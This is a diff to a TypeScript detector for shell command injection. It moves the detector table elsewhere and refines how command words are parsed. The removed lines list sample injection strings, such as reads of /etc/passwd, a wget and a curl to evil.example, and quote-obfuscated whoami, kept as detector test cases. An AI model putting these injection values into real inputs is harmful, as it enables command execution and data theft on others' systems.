@@ -5,7 +5,7 @@
 
 import type { ByteString } from '../../../base/byte-string.ts';
 import { SEEN } from '../bytes-seen.ts';
-import type { Detector, Family, Leaf, Report } from '../detector.ts';
+import type { Family, Leaf, Report } from '../detector.ts';
 import { textKinds } from '../patterns.ts';
 import {
   ambiguousCommands,
@@ -17,88 +17,9 @@ import {
   sentenceWords,
   shortWindowsCommands,
 } from './commands.table.ts';
+import { SHELL, shellDetectors } from './facts.table.ts';
 import { isProbe } from './fields.ts';
 import { followsCommand, isHarmless } from './own-lines.ts';
-
-const source = 'POSIX.1-2017, XCU sections 2.2, 2.6 and 2.9';
-const shared = { family: 'shell', source, confirmedBy: [932] } as const;
-const ids = { separated: 198_200, substituted: 198_201, weak: 198_202, hidden: 198_203 } as const;
-
-const detectors: readonly Detector[] = [
-  {
-    ...shared,
-    id: ids.separated,
-    name: 'shell-command',
-    strong: true,
-    proves: 'adds a shell command after a separator',
-    examples: {
-      attacks: [
-        '8.8.8.8; cat /etc/passwd',
-        'x|whoami',
-        '1 && wget http://evil.example/x',
-        '127.0.0.1;/bin/ls -la',
-        'a\nuname -a',
-        '1|c"a"t /etc/hosts',
-        '; nslookup x.example',
-        '127.0.0.1;id',
-        ...['127.0.0.1 & DIR C:\\', 'until then ;id;', 'see you ; dir'],
-      ],
-      benign: [
-        'wait; find the best one',
-        'name;id;date',
-        '| id | name |',
-        ...['a & b; more or less', "ls -la | awk '{print $5, $9}'", 'get wget; wget --version'],
-        'type; which is best; sleep well',
-        'Tom & Jerry',
-        'x;Ss<a',
-        'x;CC',
-        'a&w<b',
-      ],
-    },
-  },
-  {
-    ...shared,
-    id: ids.substituted,
-    name: 'shell-substitution',
-    strong: true,
-    proves: 'substitutes the output of a shell command',
-    examples: {
-      attacks: [
-        '$(whoami)',
-        '`cat /etc/hosts`',
-        'x$(cat /etc/hosts)y',
-        '$(curl http://evil.example)',
-        '<(ls -la)',
-      ],
-      benign: ['$(this).hide()', '$(document)', '$(id).show()', '$(5)'],
-    },
-  },
-  {
-    ...shared,
-    id: ids.weak,
-    name: 'shell-word',
-    strong: false,
-    proves: 'holds what may be a shell command',
-    examples: {
-      attacks: ['use `id`', 'the `ls -la /etc` lists', 'x;id', 'fields|ls'],
-      benign: [
-        ...['plain text', 'a; b; c', 'use `const`', 'require a.php; at the top'],
-        ...['the `ls -la` lists', 'run: npm ci && npm run build', 'cat a.txt | sort -u > b.txt'],
-      ],
-    },
-  },
-  {
-    ...shared,
-    id: ids.hidden,
-    name: 'shell-hidden-command',
-    strong: true,
-    proves: 'hides the name of a command by quotes or escapes',
-    examples: {
-      attacks: [";w'h'oami", '|c\\at /etc/passwd', ';wh$@oami', ';l""s'],
-      benign: ["a; it's", '; c:\\at', "'; 'who'"],
-    },
-  },
-];
 
 /** The family of shell commands. */
 export const shell: Family = {
@@ -114,13 +35,13 @@ export const shell: Family = {
   ],
   literals: [],
   kinds: textKinds,
-  detectors,
+  detectors: shellDetectors,
   find: (leaf, _searches, report) => {
     const { text } = leaf;
     ownLines = 0;
     for (let at = 0; at < text.length; at++) {
       const separator = separatorAt(text, at);
-      if (separator === 0) continue;
+      if (separator === 0 || beginBytes[text.charCodeAt(at + 1)] !== 1) continue;
       judge(leaf, at, separator, report);
     }
   },
@@ -176,25 +97,45 @@ for (const char of 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz01234567
   wordBytes[char.charCodeAt(0)] = 1;
 }
 
+/** 1 also for what stands before a command. */
+const beginBytes = wordBytes.slice();
+for (const char of '\t\n\v\f\r \xa0({!@<>$/"\'\\^`') beginBytes[char.charCodeAt(0)] = 1;
+
 /** Reads the command at `from`, without quotes, escapes and expansions that give nothing. */
 function readCommand(text: ByteString, from: number): void {
-  skipped.lastIndex = from;
-  const begins = skipped.test(text) ? skipped.lastIndex : from;
-  redirected = begins > from && /[<>]/.test(text.slice(from, begins));
-  const start = pathEnd(text, begins);
-  fullPath = start > begins;
   // Most are words without marks.
-  let at = start;
-  while (at - start < wordMax && wordBytes[text.charCodeAt(at)] === 1) at++;
+  let start = from;
+  let at = wordEndAt(text, from);
+  redirected = false;
+  if (at === from || mayStandBefore(text.charCodeAt(at))) {
+    skipped.lastIndex = from;
+    const begins = skipped.test(text) ? skipped.lastIndex : from;
+    redirected = begins > from && /[<>]/.test(text.slice(from, begins));
+    start = pathEnd(text, begins);
+    fullPath = start > begins;
+    at = wordEndAt(text, start);
+  } else fullPath = false;
   word = text.slice(start, at);
   hidden = false;
   if (word.length < wordMax && mayMark(text.charCodeAt(at))) at = readMarked(text, start, at);
   const quote = text.charAt(start);
   if ((quote === '"' || quote === "'") && text.charAt(at) === quote) at++;
   wordEnd = at;
-  capitals = /[A-Z]/.test(word);
+  const lower = word.toLowerCase();
+  capitals = lower !== word;
   capital = capitals && /^[A-Z][a-z]/.test(word);
-  if (capitals) word = word.toLowerCase();
+  word = lower;
+}
+
+function wordEndAt(text: ByteString, from: number): number {
+  let at = from;
+  while (at - from < wordMax && wordBytes[text.charCodeAt(at)] === 1) at++;
+  return at;
+}
+
+/** Whether a byte ends what stands before a command: `A=`, `2>`, `c:`. */
+function mayStandBefore(code: number): boolean {
+  return code === 0x3d || code === 0x3c || code === 0x3e || code === 0x3a;
 }
 
 /** The end of the path of a command at `at`; `at` where there is none. */
@@ -219,22 +160,29 @@ function mayMark(code: number): boolean {
   }
 }
 
+/** Marks in a word that are read: two for each letter of a long name. */
+const marksMax = 24;
+
 /** Reads on where the first mark stands; the end of the word. */
 function readMarked(text: ByteString, start: number, from: number): number {
   let at = from;
   let marks = 0;
   // A quote before the word and one after it hide nothing.
   let begun = word !== '';
-  for (; at < text.length && word.length < wordMax && marks < wordMax; at++) {
-    const char = text.charAt(at);
-    if (/[\w.-]/.test(char)) {
-      word += char;
+  for (; at < text.length && word.length < wordMax && marks < marksMax; at++) {
+    const code = text.charCodeAt(at);
+    if (wordBytes[code] === 1) {
+      word += text.charAt(at);
       if (marks > 0 && word.length > 1 && begun) hidden = true;
       begun = true;
-    } else if (word !== '' && emptyExpansionAt(text, at) > 0) {
-      at += emptyExpansionAt(text, at) - 1;
+      continue;
+    }
+    if (!mayMark(code)) break;
+    const empty = word === '' ? 0 : emptyExpansionAt(text, at, code);
+    if (empty > 0) {
+      at += empty - 1;
       marks++;
-    } else if (/["'\\^]/.test(char) && /["'\\^\w]/.test(text.charAt(at + 1))) {
+    } else if (code !== 0x24 && code !== 0x60 && /["'\\^\w]/.test(text.charAt(at + 1))) {
       if (begun) marks++;
     } else break;
   }
@@ -242,10 +190,14 @@ function readMarked(text: ByteString, start: number, from: number): number {
   return at;
 }
 
-const emptyExpansion = /\$(?:[@*!]|\{\w{0,16}\}|\(\))(?=[\w$`"'\\])|``(?=\w)/y;
+const emptyExpansion = /\$(?:[@*!]|\{\w{0,16}\}|\(\))(?=[\w$`"'\\])/y;
 
-/** Bytes of an expansion that gives nothing, inside a word. */
-function emptyExpansionAt(text: ByteString, at: number): number {
+/** Bytes of an expansion that gives nothing, inside a word; it begins with `code`. */
+function emptyExpansionAt(text: ByteString, at: number, code: number): number {
+  if (code === 0x60) {
+    return text.charCodeAt(at + 1) === 0x60 && /\w/.test(text.charAt(at + 2)) ? 2 : 0;
+  }
+  if (code !== 0x24) return 0;
   emptyExpansion.lastIndex = at;
   return emptyExpansion.exec(text)?.[0].length ?? 0;
 }
@@ -274,8 +226,8 @@ function judge(leaf: Leaf, at: number, separator: number, report: Report): void 
   if (capitals && word.length <= shortMax && !shortWindowsCommands.has(word)) return;
   const argument = argumentAt(text, wordEnd);
   if (hidden && word.length > 1 && argument !== NOT_ONE) {
-    report.add(ids.hidden, at, wordEnd);
-    report.add(ids.separated, at, wordEnd);
+    report.add(SHELL.hidden, at, wordEnd);
+    report.add(SHELL.separated, at, wordEnd);
     return;
   }
   const probes = separator === LIST && isProbe(text, at);
@@ -287,7 +239,7 @@ function judge(leaf: Leaf, at: number, separator: number, report: Report): void 
     const known = clear || word === 'id' || argument === CLEAR;
     const writes = outputElsewhere.test(text.slice(wordEnd, wordEnd + 8));
     const proved = known && argument !== NOT_ONE && (writes || isBacktickInCode(text, at));
-    report.add(proved ? ids.substituted : ids.weak, at, wordEnd);
+    report.add(proved ? SHELL.substituted : SHELL.weak, at, wordEnd);
     return;
   }
   if (separator === SUBSTITUTION) {
@@ -295,14 +247,14 @@ function judge(leaf: Leaf, at: number, separator: number, report: Report): void 
     const whole = /^[\w.:@/-]{0,40}$/.test(text.slice(0, Math.min(at - 1, 41)));
     if (word === 'id' && whole && wordEnd === text.length - 1) clear = true;
     const proved = clear || argument === CLEAR || fullPath;
-    report.add(proved ? ids.substituted : ids.weak, at - 1, wordEnd);
+    report.add(proved ? SHELL.substituted : SHELL.weak, at - 1, wordEnd);
     return;
   }
   // Words of a sentence: `; at the top`.
   if (!clear && !hidden && argument === WORD && sentenceWords.has(word)) return;
   // One letter after a separator is chance in long texts and in data.
   const strong = word.length > 1 && (probes || isCommand(leaf, at, separator, clear, argument));
-  report.add(strong ? ids.separated : ids.weak, at, wordEnd);
+  report.add(strong ? SHELL.separated : SHELL.weak, at, wordEnd);
 }
 
 /** A redirection out of the folder. */
